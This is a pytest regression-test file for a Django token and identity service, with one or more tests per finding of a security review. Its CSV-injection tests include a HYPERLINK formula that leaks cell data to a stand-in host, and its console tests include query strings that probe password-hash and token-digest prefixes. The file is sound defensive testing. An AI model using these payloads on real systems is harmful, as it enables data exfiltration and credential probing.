"""Regression tests for the findings of the second security review (issue
"Security review findings"), one or more per finding, and where the finding
is one of a class, a test of the class. Sign-in's compatibility forms are in
tests/iam/test_sign_in.py."""

import base64
import csv
import io
import threading
from datetime import timedelta
from io import StringIO
from urllib.parse import urlencode

import pytest
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from iam.models import AuditAction, AuditEvent, Role, ServiceRole
from iam.tenancy import tenant_set_api_issuance
from tests.conftest import bearer
from tests.console.forms import form_data
from tests.factories import RoleFactory, TenantApplicationFactory, UserFactory, administrative_pat, grant, service_role
from tokens.credentials import integration_credential_create
from tokens.models import IntegrationCredential, OAuthClient, PersonalAccessToken, TokenKind, TokenStatus
from tokens.oauth import GRANT_TOKEN_EXCHANGE, PAT_TOKEN_TYPE, oauth_client_create

pytestmark = pytest.mark.django_db


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def embed(api, world, credential: str, email: str | None = None, app=None):
    return api.post(
        "/api/ext/users/personal-access-token",
        {
            "email": email or world.user.email,
            "appId": str((app or world.application).pk),
            "sessionExpiry": 5,
            "patExpiry": 600,
        },
        format="json",
        HTTP_AUTHORIZATION=f"Basic {credential}",
    )


def basic(client_id: str, secret: str) -> str:
    return "Basic " + base64.b64encode(f"{client_id}:{secret}".encode()).decode()


# ---------------------------------------------------------------- 2. CSV formula injection


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click me")', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_audit_export_starts_a_formula(world, main_admin, formula):
    world.issue(formula)
    token = world.issue("revoked for a reason").token
    from tokens.services import token_revoke

    token_revoke(token=token, actor=main_admin, reason=f"{formula} reason")
    response = signed_in(main_admin).get("/admin/iam/auditevent/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(formula.strip() in cell for cell in cells)  # the text is kept, only neutralised
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(cell.startswith("'") for cell in cells)


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(cell):
    from iam.admin import csv_safe

    assert csv_safe(cell) == f"'{cell}" and csv_safe(f"a{cell}") == f"a{cell}" and csv_safe(None) == ""


# ---------------------------------------------------------------- 3. no embedding tokens for administrators


@pytest.mark.parametrize(
    "kind", [ServiceRole.MAIN_ADMINISTRATOR, ServiceRole.USER_ADMINISTRATOR, ServiceRole.APPLICATION_ADMINISTRATOR]
)
def test_an_integration_never_issues_an_embedding_token_for_an_administrator(api, world, kind):
    credential = integration_credential_create(tenant=world.tenant, name="portal", actor=None).plaintext
    administrator = UserFactory(username=f"adm-{kind}", tenant=world.tenant)
    grant(administrator, service_role(kind), world.reader)  # with a PAT-eligible application role
    response = embed(api, world, credential, email=administrator.email)
    assert response.status_code == 403 and response.json()["error"]["code"] == "owner_is_administrator"
    assert not PersonalAccessToken.objects.filter(owner=administrator).exists()


# ---------------------------------------------------------------- 5. console query strings


CONSOLE_LISTS = [
    "/admin/tokens/personalaccesstoken/",
    "/admin/iam/auditevent/",
    "/admin/iam/auditevent/export.csv",
    "/admin/iam/user/",
    "/admin/iam/role/",
    "/admin/tenants/tenant/",
    "/admin/tenants/application/",
    "/admin/tenants/tenantapplication/",
    "/admin/tokens/integrationcredential/",
    "/admin/tokens/oauthclient/",
]
REFUSED = [
    "id__in=1,9999999999999999999999999",
    "expires_at__gte=0001-01-01T00:00:00%2B01:00",
    "created_at__lt=9999-12-31T23:59:59-14:00",
    "expires_at__year=9999999999999999999999999",
    "digest__startswith=ab",
    "owner__password__startswith=argon2",
    "occurred_at__gte=0001-01-01",
    "occurred_at__lt=9999-12-31T23:59:59-14:00",
    "tenant__id__exact=99999999999999999999999",
    "is_active__exact=maybe",
]


@pytest.mark.parametrize("query", REFUSED)
@pytest.mark.parametrize("page", CONSOLE_LISTS)
def test_a_lookup_the_console_does_not_offer_is_a_400_never_a_query(world, main_admin, page, query):
    world.issue("one")
    response = signed_in(main_admin).get(f"{page}?{query}")
    assert response.status_code in (400, 200), response.status_code  # 200 when the list offers that filter and value
    if query.split("=")[0] in ("id__in", "digest__startswith", "owner__password__startswith", "expires_at__year"):
        assert response.status_code == 400


def test_a_user_administrator_cannot_filter_tokens_by_their_digest(world, user_admin):
    token = world.issue("one").token
    response = signed_in(user_admin).get(f"/admin/tokens/personalaccesstoken/?digest__startswith={token.digest[:2]}")
    assert response.status_code == 400


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    page=st.sampled_from(CONSOLE_LISTS),
    key=st.one_of(
        st.sampled_from(
            [
                "status",
                "kind",
                "expiring",
                "use",
                "o",
                "p",
                "q",
                "tenant__id__exact",
                "action__exact",
                "can_create_pats__exact",
                "occurred_at__gte",
                "revoked_because",
                "application__id__exact",
            ]
        ),
        st.text(alphabet="abcdefghijklmnopqrstuvwxyz_", min_size=1, max_size=30),
    ),
    value=st.one_of(
        st.text(max_size=40).filter(lambda text: "\x00" not in text),
        st.integers(min_value=-(10**30), max_value=10**30).map(str),
        st.sampled_from(["0001-01-01", "9999-12-31T23:59:59-14:00", "1e999", "-1", ""]),
    ),
)
def test_fuzzed_console_query_strings_never_answer_5xx(world, main_admin, page, key, value):
    response = signed_in(main_admin).get(f"{page}?{urlencode({key: value})}")
    if response.streaming:
        b"".join(response.streaming_content)
    assert response.status_code < 500, (page, key, value)


# ---------------------------------------------------------------- 6. derived names within their limits


def test_embedding_issuance_with_the_longest_application_name(api, world):
    long_app = TenantApplicationFactory(tenant=world.tenant, application__name="A" * 200).application
    grant(world.user, RoleFactory(application=long_app, code="r", name="R" * 200))
    credential = integration_credential_create(tenant=world.tenant, name="N" * 100, actor=None).plaintext
    response = embed(api, world, credential, app=long_app)
    assert response.status_code == 201, response.content
    token = PersonalAccessToken.objects.get(kind=TokenKind.EMBED)
    assert len(token.name) <= 100 and token.name.startswith("Embedding · AAA") and token.display_prefix in token.name
    assert embed(api, world, credential, app=long_app).status_code == 201  # the replacement's label fits too
    replaced = PersonalAccessToken.objects.get(pk=token.pk)
    assert replaced.revocation_cause == "embed_replaced" and len(replaced.revoked_by_label) <= 200


# ---------------------------------------------------------------- 7. control characters in header credentials


@pytest.mark.parametrize("path", ["/oauth/token", "/oauth/introspect", "/oauth/revoke"])
@pytest.mark.parametrize("client_id", ["oc_\x00", "\x00", "oc_abc\x01", "oc_" + "a" * 31 + "\x7f", "é" * 10])
def test_a_control_character_in_a_basic_client_id_is_invalid_client(api, world, path, client_id):
    response = api.generic(
        "POST",
        path,
        urlencode({"token": "x", "grant_type": GRANT_TOKEN_EXCHANGE}),
        content_type="application/x-www-form-urlencoded",
        HTTP_AUTHORIZATION=basic(client_id, "secret"),
    )
    assert response.status_code == 401 and response.json()["error"] == "invalid_client"


@pytest.mark.parametrize("credential", ["itc_\x00", "\x00\x01", "pat_" + "\x00" * 36])
def test_a_control_character_in_any_other_header_credential_is_a_401(api, world, credential):
    encoded = base64.b64encode(credential.encode()).decode()
    assert embed(api, world, encoded).status_code == 401
    assert api.get("/api/v1/me", HTTP_AUTHORIZATION=f"Bearer {credential}").status_code == 401


# ---------------------------------------------------------------- 8. concurrent writes wait their turn (SQLite too)


def run_together(calls) -> list:
    barrier = threading.Barrier(len(calls))
    results: list = [None] * len(calls)

    def run(index, call):
        try:
            barrier.wait()
            results[index] = call()
        except Exception as error:  # noqa: BLE001 - collected and asserted by the caller
            results[index] = error
        finally:
            connection.close()

    threads = [threading.Thread(target=run, args=(i, call)) for i, call in enumerate(calls)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


@pytest.mark.django_db(transaction=True)
def test_parallel_management_creates_all_succeed(world, user_admin, settings):
    settings.TOKEN_CREATIONS_PER_MINUTE = 1000
    tenant_set_api_issuance(tenant=world.tenant, allowed=True, actor=None)
    secret = administrative_pat(user_admin, "user_administrator").plaintext
    expires = (timezone.now() + timedelta(days=3)).isoformat()

    def create(index):
        return lambda: (
            bearer(APIClient(), secret)
            .post(
                f"/api/v1/users/{world.user.pk}/personal-access-tokens",
                {
                    "name": f"parallel {index}",
                    "expiresAt": expires,
                    "applicationSlug": world.application.slug,
                    "roles": ["reader"],
                },
                format="json",
            )
            .status_code
        )

    assert run_together([create(i) for i in range(10)]) == [201] * 10
    assert PersonalAccessToken.objects.filter(name__startswith="parallel").count() == 10


@pytest.mark.django_db(transaction=True)
def test_parallel_embedding_issuances_all_succeed_and_leave_one_active(world, settings):
    settings.TOKEN_CREATIONS_PER_MINUTE = 1000
    credential = integration_credential_create(tenant=world.tenant, name="portal", actor=None).plaintext
    codes = run_together([lambda: embed(APIClient(), world, credential).status_code for _ in range(20)])
    assert codes == [201] * 20
    embedded = PersonalAccessToken.objects.filter(kind=TokenKind.EMBED)
    assert embedded.count() == 20 and embedded.filter(status=TokenStatus.ACTIVE).count() == 1


@pytest.mark.django_db(transaction=True)
def test_a_revoke_racing_owner_edits_is_never_lost(world, user_admin):
    from tokens.services import token_edit, token_revoke

    token = world.issue("raced").token

    def edit(index):
        def run():
            try:
                return token_edit(token=token, actor=world.user, name=f"raced {index}")
            except Exception as error:  # noqa: BLE001 - a refused edit (revoked already) is fine
                return error

        return run

    results = run_together([edit(0), lambda: token_revoke(token=token, actor=user_admin), edit(1), edit(2)])
    assert not [r for r in results if isinstance(r, Exception) and "locked" in str(r)]
    token.refresh_from_db()
    assert token.status == TokenStatus.REVOKED


# ---------------------------------------------------------------- 9. revoking an OAuth client


def test_revoking_an_oauth_client_in_the_console_ends_its_access_tokens_and_is_audited(api, world, app_admin):
    client = oauth_client_create(application=world.application, name="backend", actor=None, token_exchange=True)
    authorization = basic(client.client.client_id, client.secret)
    pat = world.issue("exchanged").plaintext
    exchanged = api.generic(
        "POST",
        "/oauth/token",
        urlencode({"grant_type": GRANT_TOKEN_EXCHANGE, "subject_token": pat, "subject_token_type": PAT_TOKEN_TYPE}),
        content_type="application/x-www-form-urlencoded",
        HTTP_AUTHORIZATION=authorization,
    ).json()["access_token"]
    assert bearer(APIClient(), exchanged).get("/api/v1/me").status_code == 200
    other = oauth_client_create(application=world.application, name="other", actor=None)
    response = signed_in(app_admin).post(
        "/admin/tokens/oauthclient/", {"action": "revoke_clients", "_selected_action": [client.client.pk]}
    )
    assert response.status_code == 302
    assert OAuthClient.objects.get(pk=client.client.pk).revoked_at is not None
    assert bearer(APIClient(), exchanged).get("/api/v1/me").status_code == 401
    introspected = api.generic(
        "POST",
        "/oauth/introspect",
        urlencode({"token": exchanged}),
        content_type="application/x-www-form-urlencoded",
        HTTP_AUTHORIZATION=basic(other.client.client_id, other.secret),
    ).json()
    assert introspected == {"active": False}
    event = AuditEvent.objects.get(action=AuditAction.OAUTH_CLIENT_REVOKED)
    assert event.actor == app_admin and event.changes["client_id"] == client.client.client_id


# ---------------------------------------------------------------- 10. widening or narrowing a role


def test_changing_a_roles_permissions_is_confirmed_with_what_tokens_gain_and_lose_then_audited(api, world, app_admin):
    token = world.issue("reader", roles=("reader",)).plaintext
    console = signed_in(app_admin)
    url = f"/admin/iam/role/{world.reader.pk}/change/"
    data = form_data(console.get(url).content.decode(), "role_form")
    data["permissions"] = ['["orders.export"]']
    warning = console.post(url, data)
    page = warning.content.decode()
    assert warning.status_code == 200 and "It changes what live tokens may do" in page
    assert "orders.export" in page and "orders.read" in page  # gained, lost
    assert bearer(api, token).get("/api/v1/me").json()["permissions"] == ["orders.read"]  # nothing saved yet
    assert console.post(url, form_data(page, "confirm-inactivation-form")).status_code == 302
    assert bearer(api, token).get("/api/v1/me").json()["permissions"] == ["orders.export"]
    event = AuditEvent.objects.get(action=AuditAction.ROLE_CHANGED)
    assert event.actor == app_admin
    assert (
        event.changes["permissions"] == [["orders.read"], ["orders.export"]] and event.changes["tokens_affected"] == 1
    )


# ---------------------------------------------------------------- 11. pepper rotation reaches credentials and clients


def test_credentials_and_clients_move_to_the_current_pepper_on_use(api, world, settings):
    peppers = dict(settings.TOKEN_PEPPERS)
    settings.TOKEN_PEPPERS = dict(reversed(list(peppers.items())))  # t1 current: before the rotation
    credential = integration_credential_create(tenant=world.tenant, name="portal", actor=None).plaintext
    client = oauth_client_create(application=world.application, name="backend", actor=None)
    assert IntegrationCredential.objects.get().pepper_id == "t1"

    def both_work() -> bool:
        introspected = api.generic(
            "POST",
            "/oauth/introspect",
            urlencode({"token": "x"}),
            content_type="application/x-www-form-urlencoded",
            HTTP_AUTHORIZATION=basic(client.client.client_id, client.secret),
        )
        return embed(api, world, credential).status_code == 201 and introspected.status_code == 200

    def usage() -> str:
        out = StringIO()
        call_command("pepper_usage", stdout=out)
        return out.getvalue()

    settings.TOKEN_PEPPERS = peppers  # t2 put first, t1 kept after it
    assert "t1 (retired): 1 integration credentials, 1 OAuth clients" in usage()
    assert both_work()
    assert IntegrationCredential.objects.get().pepper_id == "t2" and OAuthClient.objects.get().pepper_id == "t2"
    assert "t1 (retired): nothing — can be removed" in usage()
    settings.TOKEN_PEPPERS = {"t2": peppers["t2"]}  # the old pepper removed: both still work
    assert both_work()


# ---------------------------------------------------------------- 12. a time without its zone


def test_a_naive_expiry_is_refused_with_a_clear_message(api, world, user_admin):
    tenant_set_api_issuance(tenant=world.tenant, allowed=True, actor=None)
    client = bearer(api, administrative_pat(user_admin, "user_administrator").plaintext)
    naive = (timezone.now() + timedelta(days=3)).replace(tzinfo=None).isoformat()
    response = client.post(
        f"/api/v1/users/{world.user.pk}/personal-access-tokens",
        {"name": "naive", "expiresAt": naive, "applicationSlug": world.application.slug, "roles": ["reader"]},
        format="json",
    )
    assert response.status_code == 400
    assert "time zone" in response.json()["error"]["fields"]["expiresAt"][0]
    assert not PersonalAccessToken.objects.filter(name="naive").exists()


# ---------------------------------------------------------------- 13. an address used in another tenant


def test_an_email_of_another_tenant_is_refused_without_saying_where(world, other_world, user_admin):
    console = signed_in(user_admin)
    page = console.get("/admin/iam/user/add/").content.decode()
    data = form_data(page, "user_form")
    data.update(
        username=["newcomer"],
        email=[other_world.user.email.upper()],
        tenant=[str(world.tenant.pk)],
        usable_password=["false"],
    )
    response = console.post("/admin/iam/user/add/", data)
    text = response.content.decode()
    assert response.status_code == 200 and "This email address cannot be used." in text
    assert "user_email_unique_ci" not in text and "Constraint" not in text
    assert not Role.objects.none().exists()
